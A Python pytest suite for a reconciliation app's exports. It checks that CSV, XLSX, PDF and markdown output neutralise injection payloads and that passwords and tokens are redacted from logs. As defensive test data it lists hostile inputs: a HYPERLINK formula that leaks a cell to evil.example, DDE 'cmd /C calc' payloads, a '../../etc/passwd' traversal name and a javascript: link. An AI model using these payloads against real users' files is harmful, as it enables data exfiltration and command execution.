"""Formula-injection payloads in client names and descriptions come out inert in CSV, XLSX and PDF;
numbers stay numbers; secrets never reach a message (issue 7). Files are read back, never assumed."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph, SimpleDocTemplate

from recon import views
from recon.engine import Reconciliation, reconcile
from recon.exports import report, statements
from recon.exports.formatting import export_frame
from recon.exports.safe import (
    WORD_JOINER,
    download_name,
    is_formula_like,
    markdown_text,
    neutralise,
    neutralise_text,
    pdf_text,
    redact,
    remember_secrets,
    safe_csv,
    safe_frame,
    safe_sheet_name,
    safe_xlsx,
)
from recon.schema import money_places
from recon.status import with_status
from tests.scenarios import scenario_sources

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "-Acme",
    "<font color='red'>Fish</font> & <b>Chips</b>",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def hostile_result() -> Reconciliation:
    """A run where every client name and description is an injection payload, with findings of both
    signs (negative money must stay a number)."""
    contracts = ["client,sku,unit_price,quantity,start_date,description,account_manager"]
    invoices = ["invoice_number,invoice_date,client,sku,quantity,unit_price,description,status"]
    usage = ["client,sku,quantity,period_start,vendor,product_name"]
    for number, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        contracts.append(f"{quoted},M365-BP,22.00,10,2025-01-01,{quoted},{quoted}")
        invoices.append(f"INV-{number},2026-02-01,{quoted},M365-BP,{8 + number % 3},23.00,{quoted},{quoted}")
        usage.append(f"{quoted},MS-OFF-BUS-PREM,{9 + number % 2},2026-02-01,{quoted},{quoted}")
    sections = {"contracts": "\n".join(contracts) + "\n", "invoices": "\n".join(invoices) + "\n",
                "usage": "\n".join(usage) + "\n"}
    return reconcile(scenario_sources(sections))


@pytest.fixture(scope="module")
def result() -> Reconciliation:
    return hostile_result()


def assert_inert(cell: str, column: str) -> None:
    """A cell read back from a file is inert: not formula-like, or a plain number."""
    if is_formula_like(cell):
        assert NUMBER.fullmatch(cell), f"live formula in {column}: {cell!r}"


def test_the_payloads_survive_loading(result: Reconciliation) -> None:
    names = set(result.keys["client"])
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")' in names and "-Acme" in names
    assert (result.discrepancies["variance"] < 0).any() and (result.discrepancies["variance"] > 0).any()


def test_run_outputs_are_inert_csv_and_money_stays_numeric(result: Reconciliation, tmp_path: Path) -> None:
    report.write_outputs(result, tmp_path, keys=True)
    seen_negative_money = seen_escaped_client = False
    for name in ("discrepancies.csv", "keys.csv", "receivables.csv", "unmapped.csv", "quarantine.csv"):
        with (tmp_path / name).open(newline="", encoding="utf-8") as handle:
            for row in csv.DictReader(handle):
                for column, cell in row.items():
                    assert_inert(cell, column)
                    seen_negative_money |= column == "variance" and cell.startswith("-")
                    seen_escaped_client |= column == "client" and cell == "'-Acme"
    assert seen_negative_money and seen_escaped_client
    found = pd.read_csv(tmp_path / "discrepancies.csv", dtype=str, keep_default_na=False)
    assert (found["variance"].str.fullmatch(r"-?\d+\.\d{2}")).all()


def test_run_outputs_are_the_bytes_pandas_wrote_before_the_streaming_writer(result: Reconciliation,
                                                                           tmp_path: Path) -> None:
    """Issue 25 changed how CSVs are written (Arrow, streamed), not what they hold."""
    report.write_outputs(result, tmp_path, keys=True)
    tables = {"discrepancies": with_status(result.discrepancies, None), "keys": result.keys,
              "receivables": result.receivables, "unmapped": result.unmapped, "quarantine": result.quarantine}
    for name, frame in tables.items():
        before = safe_frame(export_frame(frame)).to_csv(index=False, lineterminator="\n").encode("utf-8")
        assert (tmp_path / f"{name}.csv").read_bytes() == before, name


def test_xlsx_has_no_formula_and_money_cells_are_numbers(result: Reconciliation) -> None:
    sheets = {"Discrepancies": export_frame(result.discrepancies), "Keys": export_frame(result.keys),
              "=cmd|'/C calc'!A0": export_frame(result.receivables)}
    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx(sheets)))
    assert book.sheetnames == ["Discrepancies", "Keys", "=cmd|' C calc'!A0"]  # a sheet name is never evaluated
    numeric_money = 0
    for sheet in book.worksheets:
        headers = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for header, cell in zip(headers, row, strict=True):
                assert cell.data_type != "f", (sheet.title, header, cell.value)
                if isinstance(cell.value, str):
                    assert_inert(cell.value, str(header))
                if money_places(str(header)) is not None and cell.value is not None:
                    assert isinstance(cell.value, int | float), (header, cell.value)
                    numeric_money += 1
    assert numeric_money > 0
    clients = {row[1] for row in book["Discrepancies"].iter_rows(min_row=2, values_only=True)}
    assert "'-Acme" in clients and "'=1+1" in clients  # loading strips the tab; the rest stays


def test_xlsx_is_exact_for_money_and_writes_dates_as_dates() -> None:
    frame = pd.DataFrame({"variance": ["-1234.56", "", "=1+1"], "client": ["A", "B", "C"],
                          "invoice_date": pd.to_datetime(["2026-01-31", None, "2026-02-01"]),
                          "quantity": [1.5, None, -2.0], "short_paid": [True, False, True]})
    sheet = openpyxl.load_workbook(io.BytesIO(safe_xlsx({"x": frame}))).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == -1234.56 and rows[1][0] is None and rows[2][0] == "'=1+1"
    assert rows[0][2].date().isoformat() == "2026-01-31" and rows[1][2] is None
    assert [row[3] for row in rows] == [1.5, None, -2.0] and rows[0][4] is True


def test_pdf_paragraphs_show_markup_as_text() -> None:
    hostile = ['<img src="/etc/passwd"/>', "<link href='http://evil.example'>pay here</link>", "Fish & <b>Chips</b>",
               *PAYLOADS]
    buffer = io.BytesIO()
    styles = getSampleStyleSheet()
    SimpleDocTemplate(buffer, pagesize=A4).build([Paragraph(pdf_text(text), styles["Normal"]) for text in hostile])
    reader = PdfReader(io.BytesIO(buffer.getvalue()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert '<img src="/etc/passwd"/>' in text and "Fish & <b>Chips</b>" in text
    assert "<link href='http://evil.example'>pay here</link>" in text
    assert not any("/URI" in str(page.get("/Annots", "")) for page in reader.pages)


def test_pdf_text_without_escaping_would_have_been_markup() -> None:
    """The control case: reportlab really reads these as tags (so the escaping above matters)."""
    buffer = io.BytesIO()
    SimpleDocTemplate(buffer).build([Paragraph("Fish &amp; <b>Chips</b>", getSampleStyleSheet()["Normal"])])
    text = PdfReader(io.BytesIO(buffer.getvalue())).pages[0].extract_text()
    assert "<b>" not in text and "Fish & Chips" in text


@given(st.text(max_size=40))
def test_neutralised_text_is_never_formula_like(text: str) -> None:
    out = neutralise(text)
    assert out == text or out == "'" + text
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    frame = safe_frame(pd.DataFrame({"description": [text], "variance": [text]}))
    for cell in frame.iloc[0]:
        assert_inert(str(cell), "any")


@given(st.text(alphabet=st.sampled_from("'=+-@ aZ1\u00a0\t\r"), max_size=12))
def test_neutralising_then_reading_back_gives_the_text_exactly(text: str) -> None:
    """Issue 23 item 9: what recon writes inert (pulled CSVs), recon reads back as it was."""
    import pyarrow as pa

    from recon.ingest.normalise import without_text_marks

    written = neutralise(text)
    assert not is_formula_like(written)
    assert without_text_marks(pa.chunked_array([[written]], pa.large_string())).to_pylist() == [text]
    column = neutralise_text(pd.Series([text], dtype="string"))
    assert column.tolist() == [written]


def test_money_columns_keep_plain_decimals_only() -> None:
    frame = pd.DataFrame({"variance": ["-12.50", "12", "-1e5", "-12.50+cmd"], "client": ["-12.50"] * 4,
                          "count": [-1, 2, 3, 4]})
    out = safe_frame(frame)
    assert out["variance"].tolist() == ["-12.50", "12", "'-1e5", "'-12.50+cmd"]
    assert out["client"].tolist() == ["'-12.50"] * 4  # text by schema, whatever it looks like
    assert out["count"].tolist() == [-1, 2, 3, 4]
    assert safe_csv(pd.DataFrame({"=x": ["a"]})).decode().startswith("'=x")


def test_sheet_and_download_names_are_safe() -> None:
    assert safe_sheet_name("a/b:c*d?[e]") == "a b c d  e"
    assert safe_sheet_name("x" * 40) == "x" * 31
    assert safe_sheet_name("Keys", taken=["keys"]) == "Keys (2)"
    assert safe_sheet_name("History") == "History data"
    assert download_name("../../etc/passwd", "2026-01", suffix=".csv") == "etc-passwd-2026-01.csv"
    assert download_name("Café Müller & Söhne", suffix=".pdf") == "Cafe-Muller-Sohne.pdf"
    assert download_name("", suffix=".xlsx") == "export.xlsx"


@pytest.mark.parametrize(("text", "expected"), [
    ("postgresql://recon:s3cr3t@db.example/recon", "postgresql://recon:***@db.example/recon"),
    ("postgresql+psycopg://u:p@ss:w0rd@127.0.0.1:5432/x failed", "postgresql+psycopg://u:***@127.0.0.1:5432/x failed"),
    ("sqlite:///recon.db", "sqlite:///recon.db"),
    ("host=db password=hunter2 user=x", "host=db password=*** user=x"),
    ('cookie_secret = "abc123"', 'cookie_secret = "***"'),
    ("client_secret: xyz", "client_secret: ***"),
])
def test_redact_masks_passwords(text: str, expected: str) -> None:
    assert redact(text) == expected


@pytest.mark.parametrize(("text", "secret"), [
    ("RECON_CONN_PSA_PASSWORD=Conn-Env-Secret1\x00PATH=/usr/bin\x00HOME=/root", "Conn-Env-Secret1"),
    ("RECON_CONN_CW_PRIVATE_KEY='private key with spaces'", "private key with spaces"),
    ("PGPASSWORD=Pg-Secret-9 psql -h db", "Pg-Secret-9"),
    ("db_password: 'Db-Secret-7'", "Db-Secret-7"),
    ("postgresql://recon@db/recon?sslmode=require&password=Query-Secret-5", "Query-Secret-5"),
    ("cannot open postgresql://recon:Slash/Pw@db/recon", "Slash/Pw"),
    ("Authorization: Basic dXNlcjpTZWNyZXQtQmFzaWM=", "dXNlcjpTZWNyZXQtQmFzaWM="),
    ("Authorization: Bearer eyJ0eXAi.Bearer-Token.x", "eyJ0eXAi.Bearer-Token.x"),
    ('{"private_key": "Json-Key-3", "client_id": "visible"}', "Json-Key-3"),
    ("refresh_token=Refresh-Secret-2&scope=x", "Refresh-Secret-2"),
])
def test_redact_masks_secrets_by_name_in_every_form(text: str, secret: str) -> None:
    """Issue 23 item 8: environment dumps (NUL-separated), RECON_CONN_* and PGPASSWORD, ``db_password``,
    a password in a URL's query or with a ``/`` in it, HTTP credentials, JSON."""
    masked = redact(text)
    assert secret not in masked and "***" in masked
    assert "visible" in redact('{"client_id": "visible"}')


def test_redact_masks_every_secret_value_the_app_knows(monkeypatch: pytest.MonkeyPatch) -> None:
    """By value: a secret is masked wherever it appears, with or without a name beside it."""
    monkeypatch.setenv("RECON_CONN_PSA_PASSWORD", "env-Secret-42")
    monkeypatch.setenv("RECON_DATABASE_URL", "postgresql://recon:Db%40Url-Secret@db/recon")
    monkeypatch.setenv("PGPASSWORD", "Pg-Env-Secret")
    monkeypatch.setenv("RECON_SAMPLE_DIR", "/srv/recon/sample")  # not a secret: stays
    remember_secrets(["Conn-Secret-99", "", "ab"])  # empty and very short values are never "secrets"
    text = ("bare env-Secret-42, Db@Url-Secret and Db%40Url-Secret, Pg-Env-Secret, Conn-Secret-99 "
            "in /srv/recon/sample; ab stays")
    masked = redact(text)
    for secret in ("env-Secret-42", "Db@Url-Secret", "Db%40Url-Secret", "Pg-Env-Secret", "Conn-Secret-99"):
        assert secret not in masked
    assert "/srv/recon/sample" in masked and "ab stays" in masked


@pytest.mark.parametrize("client", [PAYLOADS[0], PAYLOADS[-1], "-Acme"])
def test_client_statements_are_inert_in_xlsx_and_literal_in_pdf(result: Reconciliation, client: str) -> None:
    view = views.filter_run(result, views.Filters(clients=(client,)))
    statement = statements.client_statement(view, client, date(2026, 3, 31))
    assert len(statement.lines), "the payload client has findings to put on the statement"
    book = openpyxl.load_workbook(io.BytesIO(statements.statement_xlsx(statement)))
    texts = []
    for row in book.active.iter_rows():  # type: ignore[union-attr]
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert_inert(cell.value, cell.coordinate)
                texts.append(cell.value)
    assert any(client in text for text in texts)  # the name is there, as text
    pdf = PdfReader(io.BytesIO(statements.statement_pdf(statement)))
    assert client in " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)


def test_markdown_text_keeps_names_literal() -> None:
    hostile = "![x](http://evil.example/p.png) [click](javascript:alert(1)) :red[a] :material/home: $x$ <b>"
    escaped = markdown_text(hostile)
    for construct in ("![", "](", ":red[", ":material/", "$x$", "<b>"):  # none left unescaped
        assert not re.search(r"(?<!\\)" + re.escape(construct), escaped), construct
    assert re.sub(r"\\(.)", r"\1", escaped.replace(WORD_JOINER, "")) == hostile  # nothing lost: only escaped
    assert markdown_text("Acme Corporation") == "Acme Corporation"
    assert markdown_text("line\nbreak\x00") == "line break"


@pytest.mark.parametrize("name", ["www.evil.example", "HTTPS://evil.example/x", "ops@evil.example",
                                  "see https://a.example and www.b.example", "mailto:x@y.example"])
def test_markdown_text_leaves_nothing_markdown_would_link_by_itself(name: str) -> None:
    """Issue 23 item 7: GitHub-flavoured markdown links ``www.``, ``scheme://`` and e-mail addresses in
    plain text, escaped or not; a word joiner (invisible) inside each start keeps them text."""
    escaped = markdown_text(name)
    unescaped = re.sub(r"\\(.)", r"\1", escaped)
    assert not re.search(r"(?i)\bwww\.|://|[\w.+-]@", unescaped), unescaped
    assert unescaped.replace(WORD_JOINER, "") == name


def test_logs_are_redacted() -> None:
    import logging

    from recon.exports.safe import RedactingFilter

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(RedactingFilter())
    logger = logging.getLogger("recon.test.redaction")
    logger.addHandler(handler)
    try:
        logger.error("cannot open %s", "postgresql://recon:Sup3rS3cret@db/recon")
        try:
            raise RuntimeError("password=hunter2 rejected")
        except RuntimeError:
            logger.exception("failed")
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert "Sup3rS3cret" not in written and "hunter2" not in written
    assert "postgresql://recon:***@db/recon" in written and "RuntimeError: password=*** rejected" in written


def test_every_log_line_is_redacted_also_of_loggers_with_their_own_handlers_made_later(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 23 item 8, "every message, log and page": Streamlit gives each of its modules a logger with
    its own handler that does not propagate (``streamlit.logger.get_logger``), some made after the app
    started; its log of an uncaught page error (``streamlit.error_util``) held the secret. Redaction
    applies to every record the process makes, whichever logger and handler write it."""
    import logging

    from recon.redaction import install_log_redaction

    monkeypatch.setenv("RECON_CONN_PSA_PASSWORD", "Conn-Env-Secret1")
    monkeypatch.setattr(logging, "_logRecordFactory", logging.getLogRecordFactory())  # restored afterwards
    install_log_redaction("streamlit", "dashboard")
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    logger = logging.getLogger("streamlit.error_util.test")  # as streamlit.logger.get_logger makes one
    logger.propagate, logger.handlers = False, [handler]
    try:
        try:
            raise RuntimeError("cannot open postgresql://recon:S3cretPw@db/recon with Conn-Env-Secret1")
        except RuntimeError:
            logger.exception("Uncaught app execution %s", "PGPASSWORD=Pg-Secret-9")
    finally:
        logger.handlers = []
    written = stream.getvalue()
    assert "Uncaught app execution" in written and "RuntimeError: cannot open" in written
    for secret in ("S3cretPw", "Conn-Env-Secret1", "Pg-Secret-9"):
        assert secret not in written, written
